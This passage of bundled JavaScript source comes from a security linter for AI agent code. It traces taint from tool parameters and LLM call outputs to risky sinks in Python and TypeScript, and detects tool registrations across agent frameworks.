	scope;
	options;
	events = /* @__PURE__ */ new Map();
	/** `seeds` are tainted from the start of `scope` (a tool's parameters); the subclass's walk records the rest. */
	constructor(scope, seeds, options = {}) {
		this.scope = scope;
		this.options = options;
		for (const seed of seeds) this.record(seed, scope.startIndex, true);
		this.propagate();
	}
	/** Does the value of `node`, evaluated at `position`, carry tainted data? */
	taintedAt(node, position) {
		if (this.options.isSource?.(node)) return true;
		if (this.isNameReference(node)) return this.isNameTaintedAt(node.text, position);
		if (this.isSanitizerCall(node)) return false;
		const { member, keyed, functions } = this.valueGrammar;
		if (node.type === member) return this.taintedAt(node.childForFieldName("object"), position);
		if (node.type === keyed) {
			const value = node.childForFieldName("value");
			return !!value && this.taintedAt(value, position);
		}
		if (functions.includes(node.type)) return false;
		return node.namedChildren.some((child) => this.taintedAt(child, position));
	}
	record(name, position, tainted) {
		const list = this.events.get(name) ?? [];
		list.push({
			position,
			tainted
		});
		this.events.set(name, list);
	}
	/** True when any seed was given or some source assignment was seen: lets callers skip clean scopes. */
	get hasTaint() {
		return [...this.events.values()].some((events) => events.some((event) => event.tainted));
	}
	isNameTaintedAt(name, position) {
		let latest;
		for (const event of this.events.get(name) ?? []) if (event.position <= position) latest = event;
		return latest?.tainted ?? false;
	}
	/** Does the value of `node` (evaluated where it stands) carry tainted data? */
	isTainted(node) {
		return this.taintedAt(node, node.startIndex);
	}
	/** The tainted names referenced by `node`, for messages. */
	taintedNames(node) {
		const names = /* @__PURE__ */ new Set();
		const pending = [node];
		for (let current = pending.pop(); current; current = pending.pop()) {
			if (this.isNameReference(current) && this.isNameTaintedAt(current.text, node.startIndex)) names.add(current.text);
			if (this.isSanitizerCall(current)) continue;
			pending.push(...[...current.namedChildren].reverse());
		}
		return [...names];
	}
	isSanitizerName(callee) {
		return this.options.sanitizers?.has(callee) ?? false;
	}
};
// src/rules/security/support/python-taint.ts
var PythonTaint = class extends FlowTaint {
	/** The latest assignment value of `name` before `position`, to follow a variable back to how it was built. */
	assignedValue(name, position) {
		let found;
		for (const assignment of this.scope.descendantsOfType(["assignment", "augmented_assignment"])) {
			if (assignment.startIndex >= position) break;
			const left = assignment.childForFieldName("left");
			if (left?.type === "identifier" && left.text === name && !insideNestedFunction$1(assignment, this.scope)) found = assignment.childForFieldName("right") ?? void 0;
		}
		return found;
	}
	isNameReference(node) {
		return node.type === "identifier" && isReference(node);
	}
	isSanitizerCall(node) {
		if (node.type !== "call") return false;
		return this.isSanitizerName(node.childForFieldName("function")?.text.replace(/\s+/g, "") ?? "") || (this.options.cleanCall?.test(node) ?? false);
	}
	get valueGrammar() {
		return PYTHON_VALUES;
	}
	propagate() {
		const binders = this.scope.descendantsOfType([
			"assignment",
			"augmented_assignment",
			"named_expression",
			"for_statement",
			"for_in_clause",
			"with_item"
		]);
		for (const binder of binders) {
			if (insideNestedFunction$1(binder, this.scope)) continue;
			const position = binder.endIndex;
			switch (binder.type) {
				case "assignment": {
					const left = binder.childForFieldName("left");
					const right = binder.childForFieldName("right");
					if (!left || !right) break;
					const tainted = this.taintedAt(right, binder.startIndex);
					for (const name of boundNames(left)) this.record(name, position, tainted);
					break;
				}
				case "augmented_assignment": {
					const left = binder.childForFieldName("left");
					const right = binder.childForFieldName("right");
					if (left?.type !== "identifier" || !right) break;
					const tainted = this.isNameTaintedAt(left.text, binder.startIndex) || this.taintedAt(right, binder.startIndex);
					this.record(left.text, position, tainted);
					break;
				}
				case "named_expression": {
					const name = binder.childForFieldName("name");
					const value = binder.childForFieldName("value");
					if (name && value) this.record(name.text, position, this.taintedAt(value, binder.startIndex));
					break;
				}
				case "for_statement":
				case "for_in_clause": {
					const left = binder.childForFieldName("left");
					const right = binder.childForFieldName("right");
					if (!left || !right) break;
					const tainted = this.taintedAt(right, binder.startIndex);
					for (const name of boundNames(left)) this.record(name, right.endIndex, tainted);
					break;
				}
				case "with_item": {
					const value = binder.childForFieldName("value");
					if (value?.type !== "as_pattern") break;
					const source = value.namedChildren[0];
					const target = value.childForFieldName("alias");
					if (!source || !target) break;
					const tainted = this.taintedAt(source, binder.startIndex);
					for (const name of boundNames(target)) this.record(name, position, tainted);
					break;
				}
			}
		}
	}
};
var PYTHON_VALUES = {
	member: "attribute",
	keyed: "keyword_argument",
	functions: ["lambda", "function_definition"]
};
/** Identifiers bound by an assignment target: `a`, `a, b`, `[a, *b]`; not `obj.attr` or `d[k]`. */
function boundNames(target) {
	if (target.type === "identifier") return [target.text];
	if ([
		"pattern_list",
		"tuple_pattern",
		"list_pattern",
		"as_pattern_target",
		"list_splat_pattern",
		"expression_list",
		"tuple",
		"list"
	].includes(target.type)) return target.namedChildren.flatMap(boundNames);
	return [];
}
/** An identifier that reads a variable (not an attribute name or a keyword name). */
function isReference(identifier) {
	const parent = identifier.parent;
	if (!parent) return true;
	if (parent.type === "attribute" && parent.childForFieldName("attribute")?.startIndex === identifier.startIndex) return false;
	if (parent.type === "keyword_argument" && parent.childForFieldName("name")?.startIndex === identifier.startIndex) return false;
	return true;
}
function insideNestedFunction$1(node, scope) {
	for (let current = node.parent; current && current.startIndex >= scope.startIndex; current = current.parent) {
		if (current.id === scope.id) return false;
		if (current.type === "function_definition" || current.type === "lambda") return true;
	}
	return false;
}
// src/rules/security/support/python-modules.ts
function moduleFile(paths, folder, parts) {
	const base = [folder, ...parts].filter((part) => part !== "" && part !== ".").join("/");
	if (paths.has(`${base}.py`)) return `${base}.py`;
	if (paths.has(`${base}/__init__.py`)) return `${base}/__init__.py`;
}
/** The longest prefix of `parts` that is a module under `folder`. */
function longestModule(paths, folder, parts) {
	for (let length = parts.length; length >= 1; length--) {
		const found = moduleFile(paths, folder, parts.slice(0, length));
		if (found) return {
			path: found,
			rest: parts.slice(length)
		};
	}
}
function parent(folder) {
	const up = path.posix.dirname(folder);
	return up === "." ? "" : up;
}
/** `qualified` as the import map spells it (`.utils.run`, `tools.shell.run`), resolved from the file at `fromPath`. */
function resolvePythonImport(paths, fromPath, qualified) {
	const level = /^\.*/.exec(qualified)[0].length;
	const parts = qualified.slice(level).split(".").filter(Boolean);
	let folder = parent(fromPath);
	if (level > 0) {
		for (let up = 1; up < level; up++) folder = parent(folder);
		return longestModule(paths, folder, parts) ?? (moduleFile(paths, folder, []) ? {
			path: moduleFile(paths, folder, []),
			rest: parts
		} : void 0);
	}
	if (parts.length === 0) return void 0;
	const folders = [];
	for (let current = folder;; current = parent(current)) {
		folders.push(current);
		if (current === "") break;
	}
	folders.push("src");
	for (const candidate of folders) {
		const found = longestModule(paths, candidate, parts);
		if (found) return found;
	}
}
var topLevelMemo$1 = /* @__PURE__ */ new WeakMap();
/** A module-level `def name` (decorated or not); the last definition wins, as at run time. */
function topLevelFunction(root, name) {
	let functions = topLevelMemo$1.get(root.tree);
	if (!functions) {
		const byName = /* @__PURE__ */ new Map();
		for (const child of root.namedChildren) {
			const fn = child.type === "decorated_definition" ? child.childForFieldName("definition") : child;
			const fnName = fn?.type === "function_definition" ? fn.childForFieldName("name")?.text : void 0;
			if (fn && fnName) byName.set(fnName, fn);
		}
		topLevelMemo$1.set(root.tree, functions = byName);
	}
	return functions.get(name);
}
/** `name` defined in the module at `modulePath`, following re-exports (`from .shell import run` in `__init__.py`) a few steps. */
async function findPythonFunction(modules, modulePath, name, depth = 0) {
	const module = await modules.module(modulePath);
	if (!module) return void 0;
	const fn = topLevelFunction(module.tree.rootNode, name);
	if (fn) return {
		module,
		fn,
		name
	};
	if (depth >= 3) return void 0;
	const target = pythonImportMap(module.tree).get(name);
	const resolved = target ? resolvePythonImport(modules.paths, modulePath, target) : void 0;
	if (!resolved || resolved.rest.length !== 1) return void 0;
	return findPythonFunction(modules, resolved.path, resolved.rest[0], depth + 1);
}
/**
* The function of the agent a call in `module` invokes, when that is knowable from the code: a bare name
* bound by an import of one of the agent's modules or by a module-level `def` of the same file, or
* `utils.run(...)` through an imported module. Methods and names bound locally are not followed.
*/
async function calledFunction(modules, module, imports, call) {
	const callee = call.childForFieldName("function");
	if (!callee) return void 0;
	if (callee.type === "identifier") {
		const name = callee.text;
		const target = imports.get(name);
		if (!target) {
			const fn = topLevelFunction(module.tree.rootNode, name);
			return fn && !isLocallyBound(call, name) ? {
				module,
				fn,
				name
			} : void 0;
		}
		if (!resolvesInAgent(modules, module.file.path, target) || isLocallyBound(call, name)) return void 0;
		return functionAt(modules, module.file.path, target);
	}
	if (callee.type !== "attribute" || !/^[\w.]+$/.test(calleeText(call))) return void 0;
	const qualified = importedCallee(call, imports, (candidate) => resolvesInAgent(modules, module.file.path, candidate));
	return qualified ? functionAt(modules, module.file.path, qualified) : void 0;
}
/** True when `qualified` names a module-level name of one of the agent's own modules. */
function resolvesInAgent(modules, fromPath, qualified) {
	return resolvePythonImport(modules.paths, fromPath, qualified)?.rest.length === 1;
}
async function functionAt(modules, fromPath, qualified) {
	const resolved = resolvePythonImport(modules.paths, fromPath, qualified);
	if (!resolved || resolved.rest.length !== 1) return void 0;
	return findPythonFunction(modules, resolved.path, resolved.rest[0]);
}
/** What counts as handing functions to the model as tools, in the call that does it. */
function toolArguments(call) {
	const found = [];
	const add = (node) => {
		if (!node) return;
		if (node.type === "list" || node.type === "tuple") for (const child of node.namedChildren) add(child);
		else if (node.type === "identifier" || node.type === "attribute") found.push(node);
	};
	add(keywordArgument(call, "tools"));
	const callee = calleeText(call);
	const last = callee.split(".").pop() ?? "";
	if (/^(FunctionTool|StructuredTool|LongRunningFunctionTool)$/.test(last) || /\.(from_function|from_defaults)$/.test(callee)) add(keywordArgument(call, "func") ?? keywordArgument(call, "fn") ?? positionalArguments(call)[0]);
	if (last === "create_react_agent" || last === "create_agent") add(positionalArguments(call)[1]);
	return found;
}
/** Text that can hand a function to the model as a tool; files without it are not parsed for registrations. */
var REGISTERS_TOOLS = /\btools\s*=|FunctionTool\s*\(|StructuredTool|\.from_function\s*\(|\.from_defaults\s*\(|create_react_agent\s*\(|create_agent\s*\(/;
/**
* Functions that another module of the agent hands to the model: `tools=[fetch_page_tool]` in
* `sub_agents/retriever.py` after `from ..tools.fetch_page import fetch_page_tool` makes that function,
* in `tools/fetch_page.py`, a tool. Keyed by the defining module's path, then function name → how.
*/
function pythonToolRegistrations(modules) {
	return modules.once("python-tool-registrations", async () => {
		const registrations = /* @__PURE__ */ new Map();
		for (const filePath of [...modules.paths].sort()) {
			if (!filePath.endsWith(".py")) continue;
			const text = await modules.text(filePath);
			if (!text || !REGISTERS_TOOLS.test(text) || !/^\s*(from|import)\s/m.test(text)) continue;
			const module = await modules.module(filePath);
			if (!module) continue;
			const imports = pythonImportMap(module.tree);
			for (const call of module.tree.rootNode.descendantsOfType("call")) for (const argument of toolArguments(call)) {
				const head = argument.text.split(".")[0];
				const target = imports.get(head);
				if (!target || isLocallyBound(argument, head)) continue;
				const qualified = [target, ...argument.text.split(".").slice(1)].join(".");
				const resolved = resolvePythonImport(modules.paths, filePath, qualified);
				if (!resolved || resolved.rest.length !== 1) continue;
				const defined = await findPythonFunction(modules, resolved.path, resolved.rest[0]);
				if (!defined) continue;
				const byName = registrations.get(defined.module.file.path) ?? /* @__PURE__ */ new Map();
				if (!byName.has(defined.name)) byName.set(defined.name, `tools=[...] in ${filePath}`);
				registrations.set(defined.module.file.path, byName);
			}
		}
		return registrations;
	});
}
// src/rules/security/support/python-tools.ts
/** Modules whose `tool`/`function_tool` decorators turn a function into a model-callable tool. */
var TOOL_DECORATOR_MODULES = /^(langchain|langchain_core|langchain_community|crewai|crewai_tools|smolagents|agents|pydantic_ai|llama_index|google\.adk|strands|mcp|fastmcp|autogen|autogen_core|openai_agents)\b/;
/** Decorators on an instance: `@agent.tool`, `@agent.tool_plain` (Pydantic AI), `@mcp.tool()` (FastMCP). */
var INSTANCE_TOOL_DECORATOR = /^[A-Za-z_][\w]*\.(tool|tool_plain)$/;
/** Files that import one of these can use instance decorators for tools. */
var INSTANCE_TOOL_MODULES = /^(pydantic_ai|mcp|fastmcp|strands)\b/;
/** Parameter annotations that are runtime context, not model input. */
var CONTEXT_TYPES = /\b(RunContext|ToolContext|CallbackContext|InvocationContext|Context|RunContextWrapper|ToolRuntime|InjectedState|InjectedToolArg|InjectedStore|RunnableConfig|CallbackManagerForToolRun|AsyncCallbackManagerForToolRun)\b/;
var CONTEXT_NAMES = /* @__PURE__ */ new Set([
	"self",
	"cls",
	"ctx",
	"tool_context",
	"run_manager",
	"callbacks",
	"config",
	"runtime",
	"wrapper"
]);
/** Base classes whose methods receive tool input: LangChain/CrewAI `BaseTool._run`, smolagents `Tool.forward`, ADK `BaseTool.run_async`. */
var TOOL_METHODS = {
	BaseTool: [
		"_run",
		"_arun",
		"run_async"
	],
	Tool: ["forward"]
};
function importsMatching(imports, pattern) {
	for (const target of imports.values()) if (pattern.test(target)) return true;
	return false;
}
/** Model-facing parameter names of a function: drops self, context objects and injected arguments. */
function toolParameters(fn) {
	const names = [];
	for (const parameter of fn.childForFieldName("parameters")?.namedChildren ?? []) {
		let name;
		if (parameter.type === "identifier") name = parameter.text;
		else if (parameter.type === "list_splat_pattern" || parameter.type === "dictionary_splat_pattern") name = parameter.namedChildren[0]?.text;
		else name = (parameter.childForFieldName("name") ?? parameter.namedChildren.find((child) => child.type === "identifier"))?.text;
		if (!name || CONTEXT_NAMES.has(name)) continue;
		const annotation = parameter.childForFieldName("type")?.text ?? "";
		if (CONTEXT_TYPES.test(annotation)) continue;
		names.push(name);
	}
	return names;
}
function resolveDecorator(decorator, imports) {
	const name = decoratorName(decorator);
	const [head, ...rest] = name.split(".");
	const resolved = head !== void 0 ? imports.get(head) : void 0;
	return resolved ? [resolved, ...rest].join(".") : name;
}
/** Names handed to the model as tools: `tools=[a, b]`, `FunctionTool(a)`, `StructuredTool.from_function(func=a)`. */
function namesPassedAsTools(tree) {
	const names = /* @__PURE__ */ new Set();
	const addIdentifiers = (node) => {
		if (!node) return;
		if (node.type === "identifier") names.add(node.text);
		else if (node.type === "list" || node.type === "tuple") for (const child of node.namedChildren) addIdentifiers(child);
	};
	for (const call of tree.rootNode.descendantsOfType("call")) {
		addIdentifiers(keywordArgument(call, "tools"));
		const callee = calleeText(call);
		const last = callee.split(".").pop() ?? "";
		if (/^(FunctionTool|Tool|StructuredTool|LongRunningFunctionTool)$/.test(last) || /\.(from_function|from_defaults)$/.test(callee)) addIdentifiers(keywordArgument(call, "func") ?? keywordArgument(call, "fn") ?? positionalArguments(call)[0]);
		if (last === "create_react_agent" || last === "create_agent") addIdentifiers(positionalArguments(call)[1]);
	}
	return names;
}
/**
* Every function in the file the model can invoke as a tool. `registered` names module-level functions
* that another module of the agent hands to the model (`tools=[...]` after importing them), with how.
*/
function pythonToolFunctions(tree, imports, registered = /* @__PURE__ */ new Map()) {
	const result = [];
	const seen = /* @__PURE__ */ new Set();
	const add = (fn, via, name = fn.childForFieldName("name")?.text ?? "") => {
		if (seen.has(fn.id)) return;
		seen.add(fn.id);
		result.push({
			node: fn,
			name,
			params: toolParameters(fn),
			via
		});
	};
	const instanceDecoratorsCount = importsMatching(imports, INSTANCE_TOOL_MODULES);
	const passed = namesPassedAsTools(tree);
	for (const fn of tree.rootNode.descendantsOfType("function_definition")) {
		for (const decorator of decoratorsOf(fn)) {
			const written = decoratorName(decorator);
			const resolved = resolveDecorator(decorator, imports);
			const last = resolved.split(".").pop() ?? "";
			if ((last === "tool" || last === "function_tool") && resolved.includes(".") && TOOL_DECORATOR_MODULES.test(resolved)) add(fn, `@${written}`);
			else if (instanceDecoratorsCount && INSTANCE_TOOL_DECORATOR.test(written)) add(fn, `@${written}`);
		}
		const name = fn.childForFieldName("name")?.text ?? "";
		const owner = fn.parent?.type === "decorated_definition" ? fn.parent.parent : fn.parent;
		if (owner?.type === "module" && passed.has(name)) add(fn, "tools=[...]");
		if (owner?.type === "module" && registered.has(name)) add(fn, registered.get(name));
		const classBody = owner?.type === "block" ? owner.parent : void 0;
		if (classBody?.type === "class_definition") for (const base of classBody.childForFieldName("superclasses")?.namedChildren ?? []) {
			const baseName = base.text.split(".").pop() ?? "";
			if (!TOOL_METHODS[baseName]?.includes(name)) continue;
			if (baseName === "Tool" && !/^smolagents\b/.test(imports.get(base.text.split(".")[0] ?? "") ?? "")) continue;
			add(fn, `${baseName}.${name}`, classBody.childForFieldName("name")?.text);
		}
	}
	return result;
}
/** Calls to LLM APIs whose result is model-generated text. */
var MODEL_CALL = /(\.chat\.completions\.create|\.completions\.create|\.responses\.create|\.messages\.create|\.generate_content|\.generate_content_async|\.invoke|\.ainvoke|Runner\.run|Runner\.run_sync|\.run_sync|\.kickoff|\.kickoff_async|^litellm\.completion|^litellm\.acompletion|^completion|^acompletion|\.predict|\.complete|\.acomplete|\.chat|\.achat|\.query)$/;
var MODEL_MODULES = /^(openai|anthropic|google\.genai|google\.generativeai|google\.adk|vertexai|langchain|langchain_core|langchain_openai|langchain_anthropic|langchain_google_genai|langchain_community|langgraph|litellm|agents|pydantic_ai|crewai|llama_index|smolagents|mistralai|cohere|groq)\b/;
/** A predicate marking calls that return model output, or undefined when the file imports no LLM SDK. */
function pythonModelCallSource(imports) {
	if (!importsMatching(imports, MODEL_MODULES)) return void 0;
	return (node) => node.type === "call" && MODEL_CALL.test(qualifiedCallee(node, imports));
}
// src/rules/security/support/ts-taint.ts
var FUNCTION_TYPES = [
	"arrow_function",
	"function_expression",
	"function_declaration",
	"method_definition",
	"generator_function",
	"generator_function_declaration"
];
var TS_VALUES = {
	member: "member_expression",
	keyed: "pair",
	functions: FUNCTION_TYPES
};
var TsTaint = class extends FlowTaint {
	/** The latest initialiser/assignment of `name` before `position`. */
	assignedValue(name, position) {
		let found;
		for (const binder of this.scope.descendantsOfType(["variable_declarator", "assignment_expression"])) {
			if (binder.startIndex >= position) break;
			const left = binder.childForFieldName("name") ?? binder.childForFieldName("left");
			if (left?.type === "identifier" && left.text === name) found = binder.childForFieldName("value") ?? binder.childForFieldName("right") ?? found;
		}
		return found;
	}
	isNameReference(node) {
		return node.type === "identifier" || node.type === "shorthand_property_identifier";
	}
	isSanitizerCall(node) {
		return node.type === "call_expression" && this.isSanitizerName(tsCalleeText(node));
	}
	get valueGrammar() {
		return TS_VALUES;
	}
	propagate() {
		for (const binder of this.scope.descendantsOfType([
			"variable_declarator",
			"assignment_expression",
			"augmented_assignment_expression",
			"for_in_statement"
		])) {
			if (insideNestedFunction(binder, this.scope)) continue;
			if (binder.type === "augmented_assignment_expression") {
				const left = binder.childForFieldName("left");
				const right = binder.childForFieldName("right");
				if (left?.type !== "identifier" || !right) continue;
				this.record(left.text, binder.endIndex, this.isNameTaintedAt(left.text, binder.startIndex) || this.taintedAt(right, binder.startIndex));
				continue;
			}
			const [targetField, valueField] = BINDING_FIELDS[binder.type];
			const target = binder.childForFieldName(targetField);
			const value = binder.childForFieldName(valueField);
			if (!target || !value) continue;
			const tainted = this.taintedAt(value, binder.startIndex);
			const boundAt = binder.type === "for_in_statement" ? value.endIndex : binder.endIndex;
			for (const bound of patternNames(target)) this.record(bound, boundAt, tainted);
		}
	}
};
/** Where each binding form keeps what it binds and the value bound: `const x = v`, `x = v`, `for (const x of v)`. */
var BINDING_FIELDS = {
	variable_declarator: ["name", "value"],
	assignment_expression: ["left", "right"],
	for_in_statement: ["left", "right"]
};
/** Names bound by a binding pattern: `x`, `{ a, b: c, ...rest }`, `[a, b = 1]`. */
function patternNames(pattern) {
	switch (pattern.type) {
		case "identifier":
		case "shorthand_property_identifier_pattern": return [pattern.text];
		case "pair_pattern": return patternNames(pattern.childForFieldName("value"));
		case "object_assignment_pattern":
		case "assignment_pattern": return patternNames(pattern.childForFieldName("left"));
		case "object_pattern":
		case "array_pattern":
		case "rest_pattern": return pattern.namedChildren.flatMap(patternNames);
		default: return [];
	}
}
/** Names bound by a function's parameters (all, or only the first: the tool input). */
function tsParameterNames(fn, onlyFirst = false) {
	const parameters = fn.childForFieldName("parameters");
	const single = fn.childForFieldName("parameter");
	const list = parameters ? parameters.namedChildren.filter((child) => child.type !== "comment") : single ? [single] : [];
	return (onlyFirst ? list.slice(0, 1) : list).flatMap((parameter) => {
		if (parameter.type === "identifier") return [parameter.text];
		const pattern = parameter.childForFieldName("pattern");
		return pattern ? patternNames(pattern) : [];
	});
}
function insideNestedFunction(node, scope) {
	for (let current = node.parent; current; current = current.parent) {
		if (current.id === scope.id) return false;
		if (FUNCTION_TYPES.includes(current.type)) return true;
	}
	return false;
}
function isFunctionNode(node) {
	return !!node && FUNCTION_TYPES.includes(node.type);
}
/** Tool factories, as `module#export`: the object argument's `execute` (or LangChain's function) receives model input. */
var TOOL_FACTORIES = {
	"ai#tool": "execute",
	"ai#dynamicTool": "execute",
	"@openai/agents#tool": "execute",
	"@openai/agents-core#tool": "execute",
	"@mastra/core/tools#createTool": "execute",
	"@mastra/core#createTool": "execute",
	"@langchain/core/tools#tool": "first-arg",
	"@langchain/core/tools#DynamicStructuredTool": "func",
	"@langchain/core/tools#DynamicTool": "func",
	"langchain/tools#DynamicStructuredTool": "func",
	"langchain/tools#DynamicTool": "func"
};
function tsToolFunctions(tree, imports) {
	const result = [];
	for (const call of callExpressions(tree)) {
		const written = tsCalleeText(call).replace(/^new/, "");
		const resolved = imports.get(written);
		const kind = resolved ? TOOL_FACTORIES[resolved] : void 0;
		if (!kind) continue;
		const args = tsArguments(call);
		let fn;
		if (kind === "first-arg") fn = args[0];
		else {
			const options = args.find((arg) => arg.type === "object");
			fn = objectProperty(options, kind);
			if (!fn && options) fn = options.namedChildren.find((child) => child.type === "method_definition" && child.childForFieldName("name")?.text === kind);
		}
		if (!fn || !isFunctionNode(fn)) continue;
		result.push({
			node: fn,
			params: tsParameterNames(fn, true),
			via: `${written}({ ${kind === "first-arg" ? "fn" : kind} })`
		});
	}
	return result;
}
/** AI SDK / OpenAI SDK calls that return model output; destructured results (`const { text } = ...`) are model text. */
var TS_MODEL_CALLS = /* @__PURE__ */ new Set([
	"ai#generateText",
	"ai#streamText",
	"ai#generateObject",
	"ai#streamObject",
	"@openai/agents#run"
]);
var TS_MODEL_METHODS = /(\.chat\.completions\.create|\.responses\.create|\.messages\.create|\.generateContent|\.invoke|\.generate)$/;
function tsModelCallSource(imports, text) {
	if (![...imports.values()].some((target) => /^(ai|openai|@anthropic-ai\/sdk|@google\/genai|@google\/generative-ai|@langchain\/|langchain|@openai\/agents|@mastra\/)/.test(target)) && !/from ['"](openai|ai)['"]/.test(text)) return void 0;
	return (node) => {
		if (node.type !== "call_expression") return false;
		const callee = tsCalleeText(node);
		const resolved = imports.get(callee);
		return resolved !== void 0 && TS_MODEL_CALLS.has(resolved) || TS_MODEL_METHODS.test(callee);
	};
}
// src/rules/security/support/sinks.ts
/** Several rules analyse the same file: the analysis (tools, taint engines) is built once per tree. */
var pythonAnalyses = /* @__PURE__ */ new WeakMap();
var tsAnalyses = /* @__PURE__ */ new WeakMap();
/**
* `registered`: functions of this file that another module hands to the model as tools. Every rule of a
* file passes the same map (from `pythonAnalysisInAgent`), so the first build serves them all.
*/
function analysePython(tree, registered) {
	let analysis = pythonAnalyses.get(tree);
	if (!analysis) pythonAnalyses.set(tree, analysis = buildPythonAnalysis(tree, registered));
	return analysis;
}
/**
* The tool-input / model-output tracing both languages share: one taint engine per scope and option
* set (cached), seeded with a tool's parameters inside tools, with model calls as sources elsewhere.
*/
function tracer(spec) {
	const cache = /* @__PURE__ */ new Map();
	const engine = (scope, seeds, options, key) => {
		const cacheKey = `${scope.id}:${key}`;
		let taint = cache.get(cacheKey);
		if (!taint) cache.set(cacheKey, taint = spec.createTaint(scope, seeds, options));
		return taint;
	};
	const sanitizerKey = (options) => `${[...options.sanitizers ?? []].join(",")}|${options.cleanCall?.key ?? ""}`;
	return {
		taintFor(node, options = {}) {
			const tool = spec.toolAround(node);
			if (!tool) return void 0;
			return {
				taint: engine(tool.node, tool.params, options, `tool:${sanitizerKey(options)}`),
				tool
			};
		},
		origin(node, options = {}) {
			const taintOptions = options.taint ?? {};
			const tool = spec.toolAround(node);
			if (tool) {
				const taint = engine(tool.node, tool.params, taintOptions, `tool:${sanitizerKey(taintOptions)}`);
				if (taint.isTainted(node)) return {
					kind: "tool-input",
					names: taint.taintedNames(node),
					tool: spec.describeTool(tool)
				};
			}
			if (options.modelOutput && spec.modelSource) {
				const scope = spec.enclosingScope(node) ?? node.tree.rootNode;
				const taint = engine(scope, [], {
					...taintOptions,
					isSource: spec.modelSource
				}, `model:${sanitizerKey(taintOptions)}`);
				if (taint.isTainted(node)) return {
					kind: "model-output",
					names: taint.taintedNames(node)
				};
			}
		}
	};
}
function buildPythonAnalysis(tree, registered) {
	const imports = pythonImportMap(tree);
	const tools = pythonToolFunctions(tree, imports, registered);
	const toolAround = (node) => {
		for (let fn = enclosingFunction(node); fn; fn = enclosingFunction(fn)) {
			const tool = tools.find((candidate) => candidate.node.id === fn.id);
			if (tool) return tool;
		}
	};
	return {
		imports,
		tools,
		...tracer({
			toolAround,
			describeTool: (tool) => `${tool.name} (${tool.via})`,
			enclosingScope: enclosingFunction,
			modelSource: pythonModelCallSource(imports),
			createTaint: (scope, seeds, options) => new PythonTaint(scope, seeds, options)
		})
	};
}
function enclosingTsFunction(node) {
	for (let current = node.parent; current; current = current.parent) if (isFunctionNode(current)) return current;
}
function analyseTs(tree, text) {
	let analysis = tsAnalyses.get(tree);
	if (!analysis) tsAnalyses.set(tree, analysis = buildTsAnalysis(tree, text));
	return analysis;
}
function buildTsAnalysis(tree, text) {
	const imports = tsImportMap(tree);
	const tools = tsToolFunctions(tree, imports);
	return {
		imports,
		tools,
		...tracer({
			toolAround: (node) => tools.find((tool) => tool.node.startIndex <= node.startIndex && node.endIndex <= tool.node.endIndex),
			describeTool: (tool) => tool.via,
			enclosingScope: enclosingTsFunction,
			modelSource: tsModelCallSource(imports, text),
			createTaint: (scope, seeds, options) => new TsTaint(scope, seeds, options)
		})
	};
}
/** `receives tool input 'cmd' of tool run_shell (@tool)` / `receives model output 'reply'`. */
function describeOrigin(origin) {
	const names = origin.names.slice(0, 3).map((name) => `'${name}'`).join(", ");
	if (origin.kind === "tool-input") return `receives tool input${names ? ` ${names}` : ""} of ${origin.tool ?? "a tool"}`;
	return `receives model output${names ? ` ${names}` : ""}`;
}
/**
* A sink finding of the rules that trace both tool input and model output: `eval(...) receives tool input 'expr' of
* calc (@tool); <risk>`, fingerprinted by the sink's `key` and the origin, not by the line.
*/
function originFinding(origin, sink) {
	return {
		message: `${sink.label} ${describeOrigin(origin)}; ${sink.risk}`,
		fingerprintContent: `${sink.key}|${origin.kind}|${origin.names.join(",")}`
	};
}
// src/rules/security/support/helper-calls.ts
/** Text that can make a function a tool in its own file (decorators, tools=[...], tool classes, LangGraph's positional list). */
var PY_TOOL_TEXT = /tool|create_(react_)?agent\s*\(/i;
/** Whether a Python file can hold tools: its text names one, or another module of the agent registers one of its functions. */
async function pythonMayHoldTools(context) {
	if (PY_TOOL_TEXT.test(context.file.text)) return true;
	return (await pythonToolRegistrations(agentModules(context))).has(context.file.path);
}
/** The analysis of a Python file, counting as tools the functions other modules of the agent register from it. */
async function pythonAnalysisInAgent(context) {
	const tree = await context.tree();
	if (!tree) return void 0;
	const modules = agentModules(context);
	return {
		analysis: analysePython(tree, (await pythonToolRegistrations(modules)).get(context.file.path)),
		modules,
		module: {
			file: context.file,
			tree
		}
	};
}
/** Calls directly in `scope` (not in a nested function, lambda or class). */
function callsIn(scope) {
	return descendantsInScope(scope, ["call"], PY_NESTED_SCOPES);
}
var summaries$1 = /* @__PURE__ */ new WeakMap();
/** Parameter name → the first sink it reaches on its own. */
function helperSummary$1(helper, spec) {
	return memoisedHelperSummary(summaries$1, helper, spec, (summary) => {
		const calls = callsIn(helper.fn);
		for (const param of parameterSlots$1(helper.fn).map((slot) => slot.name).slice(0, 8)) {
			const taint = new PythonTaint(helper.fn, [param], spec.taint);
			const hit = spec.sinks(calls, taint, helper.module, helper.fn)[0];
			if (hit) summary.set(param, hit);
		}
	});
}
/** Named parameters in order; `*args`/`**kwargs` are not followed. */
function parameterSlots$1(fn) {
	const slots = [];
	let positional = true;
	let position = 0;
	for (const parameter of fn.childForFieldName("parameters")?.namedChildren ?? []) {
		if (parameter.type === "list_splat_pattern" || parameter.type === "keyword_separator" || parameter.type === "typed_parameter" && parameter.namedChildren[0]?.type === "list_splat_pattern") {
			positional = false;
			continue;
		}
		if (parameter.type === "dictionary_splat_pattern" || parameter.type === "positional_separator") continue;
		if (parameter.type === "typed_parameter" && parameter.namedChildren[0]?.type === "dictionary_splat_pattern") continue;
		const nameNode = parameter.type === "identifier" ? parameter : parameter.childForFieldName("name") ?? parameter.namedChildren.find((child) => child.type === "identifier");
		if (!nameNode) continue;
		slots.push({
			name: nameNode.text,
			position: positional ? position++ : void 0
		});
	}
	return slots;
}
/** Argument → the helper parameter it binds, for plain positional and keyword arguments. */
function argumentBindings(call, fn) {
	const slots = parameterSlots$1(fn);
	const bindings = [];
	let position = 0;
	for (const argument of call.childForFieldName("arguments")?.namedChildren ?? []) {
		if (argument.type === "list_splat" || argument.type === "dictionary_splat") break;
		if (argument.type === "comment") continue;
		if (argument.type === "keyword_argument") {
			const name = argument.childForFieldName("name")?.text;
			const value = argument.childForFieldName("value");
			if (name && value && slots.some((slot) => slot.name === name)) bindings.push({
				param: name,
				argument: value
			});
			continue;
		}
		const slot = slots.find((candidate) => candidate.position === position);
		position++;
		if (slot) bindings.push({
			param: slot.name,
			argument
		});
	}
	return bindings;
}
/** True when the helper is a tool in its own right: its own module's analysis reports what reaches its sinks. */
async function isToolItself$1(helper, modules, current, analysis) {
	if (helper.module.file.path === current.file.path) return analysis.tools.some((tool) => tool.node.id === helper.fn.id);
	const registrations = await pythonToolRegistrations(modules);
